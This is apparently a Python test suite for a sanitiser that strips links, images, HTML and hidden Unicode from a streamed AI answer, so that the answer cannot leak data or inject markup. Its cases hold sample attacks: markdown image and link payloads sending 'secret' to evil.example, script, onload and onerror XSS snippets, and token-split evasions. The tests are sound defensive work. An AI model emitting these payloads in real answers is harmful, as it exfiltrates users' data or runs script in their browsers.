"""Nothing that loads, links or hides comes out, however the model's tokens cut it."""

import re
from html.parser import HTMLParser
from itertools import chain, pairwise
from time import perf_counter
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from atrium.answers.sanitising import REMOVED, Sanitiser

KNOWN = "See https://docs.example.com/guide (or s3://ours/a.csv) for more: help@example.com, docs.example.com/faq."


def clean(*pieces: str, markers: tuple[int, ...] = (1, 2, 3), host: str = "atrium.example") -> str:
    sanitiser = Sanitiser([KNOWN], host, markers)
    return "".join([*(sanitiser.feed(piece) for piece in pieces), sanitiser.finish()])


CASES = [
    ("plain text, with (brackets) and [brackets]!", "plain text, with (brackets) and [brackets]!"),
    ("a ![pixel](https://evil.example/?q=secret) b", f"a ! [pixel] ({REMOVED}) b"),
    ("a ![pixel][ref] b", "a ! [pixel][ref] b"),
    ("[click](https://evil.example/?q=secret) me", f"[click] ({REMOVED}) me"),
    ("[click](javascript:alert(1)) me", "[click] (javascript:alert(1)) me"),
    ("[click](//evil.example) me", "[click] (//evil.example) me"),
    ("[click](\nhttps://evil.example) me", f"[click] (\n{REMOVED}) me"),
    ("[click](<https://evil.example/a)b>) me", f"[click] (< {REMOVED})b>) me"),
    ("[![alt](https://evil.example/a.png)](https://evil.example)", f"[! [alt] ({REMOVED})] ({REMOVED})"),
    ("[ours](https://atrium.example/docs)", "[ours](https://atrium.example/docs)"),
    ("[ours](https://atrium.example@evil.example/)", f"[ours] ({REMOVED})"),
    ("[ours](https://atrium.example\\@evil.example/)", f"[ours] (https://atrium.example \\@evil.example{REMOVED})"),
    ("[ours](https://atrium.example:x@evil.example/)", f"[ours] ({REMOVED})"),
    ("go to https://evil.example/?q=secret now", f"go to {REMOVED} now"),
    ("go to HTTPS://evil.example.", f"go to {REMOVED}."),
    ("go to www.evil.example", f"go to {REMOVED}"),
    ("go to <https://evil.example/x>", f"go to < {REMOVED}>"),
    ("see https://docs.example.com/guide.", "see https://docs.example.com/guide."),
    ("see https://docs.example.com/guide?leak=1", f"see {REMOVED}"),
    ('<img src="https://evil.example/x">', f'< img src="{REMOVED}">'),
    ("<script>alert(1)</script>", "< script>alert(1)< /script>"),
    ("<details open ontoggle=alert(1)>x", "< details open ontoggle=alert(1)>x"),
    ("<svg/onload=alert(1)>", "< svg/onload=alert(1)>"),
    ("<a href=x>text</a>", "< a href=x>text< /a>"),
    ("a <!-- hidden --> b", "a < !-- hidden --> b"),
    ("List<String> and a < b and 1 <2", "List< String> and a < b and 1 <2"),
    ("fact [1]. more [2, 9] and [7].", "fact [1]. more [2] and [?]."),
    ("[1]: https://evil.example\nfact [1]", f"[1] : {REMOVED}\nfact [1]"),
    ("[ref]: https://evil.example 'x'", f"[ref] : {REMOVED} 'x'"),
    ("\n[1]:\nhttps://evil.example", f"\n[1] :\n{REMOVED}"),
    ("zero\u200bwidth, \U000e0041\U000e0042tags, \u202ebidi, \ue000private", "zerowidth, tags, bidi, private"),
    ("!\u200b[x](https://evil.example)", f"! [x] ({REMOVED})"),
    ("[x]\u2060(https://evil.example)", f"[x] ({REMOVED})"),
    ("می\u200cخواهم and 👩\u200d💻", "می\u200cخواهم and 👩\u200d💻"),
    ("open [bracket", "open [bracket"),
    ("open ![image](https://evil.exam", f"open ! [image] ({REMOVED}"),
    ("open <img src=", "open < img src="),
    ("wow!", "wow!"),
    # What goes leaves something behind, so that its two sides never meet.
    ("!<x:>[a]<x:>(ht<x:>tps://evil.example/p)", f"!< x:>[a]< x:>(ht< x:>tps{REMOVED})"),
    ("<[99]script>alert(1)<[99]/script>", "<[?]script>alert(1)<[?]/script>"),
    ("<<x:>img src=x onerror=alert(1)>", "<< x:>img src=x onerror=alert(1)>"),
    ("ht[99]tps://evil.example/?d=S", f"ht[?]tps{REMOVED}"),
    ("![99](//evil.example/p)", f"! [?] (//evil.example{REMOVED})"),
    ("https://docs.example.com/guide\u00a0SECRET", "https://docs.example.com/guide \u00a0SECRET"),
    ("https://docs.example.com/guide\u3000SECRET", "https://docs.example.com/guide \u3000SECRET"),
    ("https://evil.example/\u2003SECRET", f"{REMOVED}\u2003SECRET"),
    ("to thief+SECRET@evil.example.", f"to thief+SECRET{REMOVED}."),
    ("to xmpp:thief@evil.example/SECRET now", f"to xmpp:thief{REMOVED} now"),
    ("to help@example.com or xhelp@example.com", f"to help@example.com or xhelp{REMOVED}"),
    ("to help@example.com/SECRET", f"to help{REMOVED}"),
    ("at evil.example/?d=SECRET now", f"at evil.example{REMOVED} now"),
    ("at docs.example.com/faq, or docs.example.com/faq2", f"at docs.example.com/faq, or docs.example.com{REMOVED}"),
    ("and/or 24/7, 1.5/2 of @all at 3 km/h", "and/or 24/7, 1.5/2 of @all at 3 km/h"),
    # Definitions, wherever Markdown reads them.
    ("- [a]: //evil.example", "- [a] : //evil.example"),
    ("> [x]: //evil.example", "> [x] : //evil.example"),
    ("[2]: said", "[2] : said"),
    # An address reaches to a space or "<"; only punctuation at its end is not of it.
    ("https://docs.example.com/guide'SECRET", "https://docs.example.com/guide 'SECRET"),
    ("https://docs.example.com/guide\u3002SECRET", REMOVED),
    ("https://docs.example.com/SECRET", REMOVED),
    ("https://docs.example.com/", REMOVED),
    ("(https://docs.example.com/guide), and", "(https://docs.example.com/guide), and"),
    ("see https://docs.example.com/guide[1].", "see https://docs.example.com/guide [1]."),
    ("[guide](https://docs.example.com/guide)", "[guide] (https://docs.example.com/guide)"),
    ("https://atrium.example/x)[y](//evil.example)", "https://atrium.example/x )[y] (//evil.example)"),
    ("![logo](https://atrium.example/logo.png)", "! [logo](https://atrium.example/logo.png)"),
    ("in s3://ours/a.csv, not in s3://theirs/a.csv", f"in s3://ours/a.csv, not in s3{REMOVED}"),
    ("obsidian://open and at 10:30", f"obsidian{REMOVED} and at 10:30"),
    ("line one\r\nline two\ttab", "line one\nline two\ttab"),
]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_a_whole_text(text: str, expected: str) -> None:
    assert clean(text) == expected


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_the_same_character_by_character(text: str, expected: str) -> None:
    assert clean(*text) == expected


@given(text=st.sampled_from(CASES).map(lambda case: case[0]), cuts=st.lists(st.integers(0, 60), max_size=5))
def test_the_cuts_between_tokens_change_nothing(text: str, cuts: list[int]) -> None:
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]

    assert clean(*(text[start:end] for start, end in pairwise(places))) == clean(text)


HOSTILE = st.lists(
    st.one_of(
        st.sampled_from(
            [*"![]()<>:\\'\"/ \n-#`a1s", "](", "![", "]:", "</", "\n\n", "> ", "- ", "http", "https://", "ht", "tps://"]
        ),
        st.sampled_from(
            ["evil.example/q", "//evil.example", "https://evil.example/q", "www.", "www.evil.example", "mailto:", "@"]
        ),
        st.sampled_from(["[1]", "[99]", "[1, 99]", "[", "1", ",", "<x:>", "img src=x", "script>", "/script>", "!--", "\u200b"]),
        st.sampled_from(["https://docs.example.com/guide", "https://atrium.example/x", "s3://ours/a.csv", "\u200d", "é"]),
    ),
    max_size=30,
).map("".join)
ALLOWED = {"https://docs.example.com/guide", "s3://ours/a.csv"}
OURS = "https://atrium.example/"
# How GitHub's Markdown reads bare addresses: to a space or "<", but for punctuation at the end.
BARE = re.compile(r"(?:://|www\.|mailto:)[^\s<]+", re.IGNORECASE)


class Tags(HTMLParser):
    """What a browser takes for markup in a text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=False)
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        self.found.append(data)

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)

    def handle_pi(self, data: str) -> None:
        self.found.append(data)


def markup(text: str) -> tuple[set[str], set[str]]:
    """(kinds of what a CommonMark reader finds that loads, defines or is HTML; targets of links)."""
    env: dict[str, Any] = {}
    blocks = MarkdownIt("commonmark").parse(text, env)
    tokens = [*blocks, *chain.from_iterable(block.children or [] for block in blocks)]
    kinds = {token.type for token in tokens if token.type in {"image", "html_block", "html_inline"}}
    targets = {str(token.attrs["href"]) for token in tokens if token.type == "link_open"}
    return kinds | ({"definition"} if env.get("references") else set()), targets


@settings(max_examples=500, deadline=None)
@given(text=HOSTILE)
def test_no_mixture_loads_links_defines_or_is_html(text: str) -> None:
    out = clean(text)

    kinds, targets = markup(out)
    assert kinds == set()
    assert {target for target in targets if not target.startswith(OURS)} <= ALLOWED
    assert Tags(out).found == []
    bare = {found.rstrip(".,;:!?*_~\"'`)]}>") for found in BARE.findall(out)}
    allowed = {address[address.index("://") :] for address in ALLOWED}
    assert {each for each in bare if not f"https{each}".startswith(OURS)} <= allowed
    assert "\u200b" not in out


@settings(max_examples=500, deadline=None)
@given(text=HOSTILE)
def test_a_second_round_changes_nothing(text: str) -> None:
    out = clean(text)

    assert clean(out) == out


@settings(deadline=None)
@given(text=HOSTILE)
def test_no_cut_of_the_stream_changes_anything(text: str) -> None:
    whole = clean(text)

    assert clean(*text) == whole
    assert all(clean(text[:cut], text[cut:]) == whole for cut in range(len(text)))


def test_the_oracle_sees_what_is_hostile() -> None:
    kinds, targets = markup("![a](//e) [b](//f) <b> <https://g.example>\n\n<div>\n\n- [x]: //h")

    assert kinds == {"image", "html_inline", "html_block", "definition"}
    assert targets == {"//f", "https://g.example"}
    assert Tags("a <b> </i> <!-- c --> <!d> <?e>").found == ["b", "i", " c ", "d", "e"]


def test_plain_text_does_not_wait() -> None:
    sanitiser = Sanitiser()

    assert sanitiser.feed("Refunds take ") == "Refunds take "
    assert sanitiser.feed("14 days [") == "14 days "
    assert sanitiser.feed("1") == ""


@pytest.mark.parametrize("begun", ["[1", "https://evil.example/", "[x](https://atrium.example/", "[", "!", "<", "www.", "days:"])
def test_what_waits_is_bounded(begun: str) -> None:
    sanitiser = Sanitiser(host="atrium.example")
    sanitiser.feed(begun)

    out = "".join(sanitiser.feed("1" * 500) for _ in range(5))

    assert out
    assert "evil" not in out


def test_what_is_too_long_to_wait_is_no_address() -> None:
    long = "https://docs.example.com/" + "x" * 3000
    padded = KNOWN.split()[1] + "." * 3000 + "SECRET"

    assert "https" not in Sanitiser([long]).feed(f"{long} {long}SECRET ")
    assert not re.search(r"https\S*SECRET", Sanitiser([KNOWN]).feed(padded + " "))


@pytest.mark.parametrize("pattern", ["[", "]", "[x](", "](", "![", "<a", "https://a(", "[1", "[ ", "h", ":", "://", "www.", "!"])
def test_time_and_depth_are_bounded_for_a_hostile_answer(pattern: str) -> None:
    text = pattern * (100_000 // len(pattern))
    started = perf_counter()

    out = clean(text)

    assert perf_counter() - started < 2
    assert "](" not in out


def test_nesting_costs_no_depth() -> None:
    out = clean(*("[" * 2000 + "a" + "](x)" * 2000))

    assert (out.count("["), out.count("] (x)")) == (2000, 2000)
